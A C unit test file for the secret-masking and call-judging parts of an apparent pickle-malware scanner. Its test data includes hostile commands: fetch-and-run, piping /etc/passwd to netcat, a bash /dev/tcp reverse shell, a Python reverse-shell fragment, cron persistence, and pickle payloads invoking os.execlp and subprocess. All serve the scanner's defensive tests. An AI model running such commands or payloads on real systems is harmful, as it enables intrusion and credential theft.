/* Evidence shows what is called, and no password: those that programs, functions and headers are
 * given, by their place. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "signatures/pickle/mask.h"
#include "signatures/pickle/pickle.h"
#include "signatures/pickle/secret.h"

#define SECRET "Zq7marmotQuill" /* where it is written, it is to be masked */

static const char *const hidden[] = {
    "echo " SECRET " | sudo -S id",
    "echo -n '" SECRET "'|sudo -u root -S id",
    "printf '" SECRET "\\n' | sudo -S id",
    "sudo -S id <<< '" SECRET "'",
    "printf '" SECRET "\n" SECRET "\n' | passwd root",
    "passwd root <<EOF\n" SECRET "\n" SECRET "\nEOF",
    "curl 'https://h/b?X-Amz-Signature=" SECRET "'",
    "curl 'https://h/b?sv=1&sig=" SECRET "'",
    "echo root:" SECRET " | chpasswd",
    "echo " SECRET " | docker login -u a --password-stdin",
    "net use \\\\h\\s /user:a " SECRET,
    "net use z: \\\\h\\s " SECRET " /user:a",
    "net user bob " SECRET " /add",
    "sshpass -p" SECRET " ssh h",
    "SSHPASS=" SECRET " sshpass -e ssh h",
    "psql postgresql://u:" SECRET "@h/d",
    "git clone https://xx" SECRET "xx@h/d",
    "wget --password " SECRET " http://h",
    "wget --http-passwd=" SECRET " http://h",
    "curl -H 'Authorization: Basic " SECRET "' http://h",
    "curl -H 'Authorization: Custom id " SECRET "' http://h",
    "curl -H 'Cookie: a=1; session=" SECRET "' http://h",
    "curl -su u:" SECRET " http://h",
    "curl --proxy-user u:" SECRET " http://h",
    "curl --oauth2-bearer " SECRET " http://h",
    "mysqldump -uroot -p" SECRET " db",
    "htpasswd -b f u " SECRET,
    "htpasswd -bc f u " SECRET,
    "htpasswd -nb u " SECRET " > f",
    "openssl rsa -in k -passin pass:" SECRET,
    "openssl enc -aes-256-cbc -k " SECRET,
    "docker login -u a -p " SECRET,
    "az login -u a -p " SECRET,
    "az storage blob list --account-key " SECRET,
    "redis-cli -h h auth " SECRET,
    "smbclient //h/s -U a%" SECRET,
    "smbclient //h/s " SECRET " -U a",
    "lftp -u a," SECRET " h",
    "zip -P " SECRET " a.zip b",
    "plink -pw " SECRET " u@h",
    "sqlplus u/" SECRET "@h",
    "psexec.py dom/a:" SECRET "@h",
    "keytool -storepass " SECRET,
    "rabbitmqctl add_user a " SECRET,
    "x --token " SECRET,
    "x --password 'a " SECRET "'",
    "x \"{\\\"password\\\": \\\"" SECRET "\\\"}\"",
    "python -c \"s.login('u', '" SECRET "')\"",
    "ftplib.FTP('h', 'u', '" SECRET "')",
    "redis.Redis().auth('" SECRET "')",
    "docker\x1elogin\x1e-u\x1e"
    "a\x1e-p\x1e" SECRET " x",
    "sudo\x1esshpass\x1e-p\x1e" SECRET "\x1essh",
    "AUTH\x1e" SECRET,
    "requirepass\x1e" SECRET,
};

/* What an attack is told by, and looks a little like those. */
static const char *const shown[] = {
    "curl http://h/x.sh | sh",
    "cat /etc/passwd | nc h 80",
    "cat\x1e/etc/passwd\x1e/etc/shadow",
    "echo '* * * * * root id' | sudo tee /etc/cron.d/x",
    "python -c 's.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0)'",
    "mkdir -p /a; tar -xp f",
    "docker run -p 80:80 -u root x",
    "mysql -P 3306 -e 'select 1'",
    "git clone git@h.com:a/b",
    "wget https://user@h/x",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "rsync --password-file=f a b",
    "open('/etc/passwd', 'r')",
    "net view",
    "cat <<EOF > /etc/cron.d/x\n* * * * * root id\nEOF",
    "signal(1)",
    "-p",
    "auth(",
    "login(,'",
    "echo x |",
    "sudo -S <<<",
};

static size_t masked(const char *text, char *out, size_t room)
{
    struct text_out o = {.at = out, .room = room};

    put_masked(&o, bytes_of(text, strlen(text)), room);
    return o.used;
}

static void test_hidden(void **state)
{
    char out[512];

    (void)state;
    for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++) {
        size_t n = masked(hidden[i], out, sizeof out);
        if (!memmem(out, n, "***", 3) || memmem(out, n, "marm", 4))
            fail_msg("%.*s", (int)n, out);
    }
}

static void test_shown(void **state)
{
    char out[512];

    (void)state;
    for (size_t i = 0; i < sizeof shown / sizeof *shown; i++) {
        size_t n = masked(shown[i], out, sizeof out);
        if (memmem(out, n, "***", 3))
            fail_msg("%.*s", (int)n, out);
    }
}

/* Cut anywhere, in a block of its own exact size. */
static void test_every_cut(void **state)
{
    char out[512];

    (void)state;
    for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++)
        for (size_t n = 0; n <= strlen(hidden[i]); n++) {
            char *copy = malloc(n + 1);
            struct text_out o = {.at = out, .room = sizeof out};
            memcpy(copy + 1, hidden[i], n);
            put_masked(&o, bytes_of(copy + 1, n), sizeof out);
            free(copy);
        }
}

#define AS_STRING(text) "S'" text "'\n"

/* Arguments of calls, and what is in them. */
static void test_arguments(void **state)
{
    static const char *const pickles[] = {
        "c__builtin__\ngetattr\n(csmtplib\nSMTP\n(S'h'\ntRS'login'\ntR(S'u'\n" AS_STRING(
            SECRET) "tR.",
        "c__builtin__\ngetattr\n(cimaplib\nIMAP4\n(S'h'\ntRS'authenticate'\ntR(S'P'\n" AS_STRING(
            SECRET) "tR.",
        "cftplib\nFTP\n(S'h'\nS'u'\n" AS_STRING(SECRET) "tR.",
        "crequests\nget\n(S'http://h'\n(dS'auth'\n(S'u'\n" AS_STRING(SECRET) "tstR.",
        "cos\nexeclp\n(S'sshpass'\nS'sshpass'\nS'-p'\n" AS_STRING(SECRET) "tR.",
        "csubprocess\ncall\n((S'az'\nS'login'\nS'-p'\n" AS_STRING(SECRET) "ltR.",
        "cos\nputenv\n(S'PGPASSWORD'\n" AS_STRING(SECRET) "tR.",
        "cos\nputenv\n((dS'password'\nI8417735\nsS'x'\ntR.",
        "cftplib\nFTP\n(S'h'\nS'u'\nI8417735\ntR.",
        "coperator\nmethodcaller\n(S'login'\nS'u'\n" AS_STRING(
            SECRET) "tR(csmtplib\nSMTP\n(S'h'\ntRtR.",
    };
    struct pickle *m = pickle_new(NULL);

    (void)state;
    for (size_t i = 0; i < sizeof pickles / sizeof *pickles; i++) {
        const struct pickle_result *r =
            pickle_judge(m, bytes_of(pickles[i], strlen(pickles[i])), PICKLE_SEEN, PICKLE_WHOLE);
        bool any = false;
        assert_true(r->verdict >= PICKLE_DANGEROUS);
        for (unsigned c = 0; c < r->n_calls; c++) {
            if (bytes_find(r->calls[c].text, "marmot") || bytes_find(r->calls[c].text, "8417735"))
                fail_msg("%.*s", (int)r->calls[c].text.len, (const char *)r->calls[c].text.at);
            any |= bytes_find(r->calls[c].text, "***") != NULL;
        }
        assert_true(any);
    }
    pickle_free(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_hidden),
        cmocka_unit_test(test_shown),
        cmocka_unit_test(test_every_cut),
        cmocka_unit_test(test_arguments),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
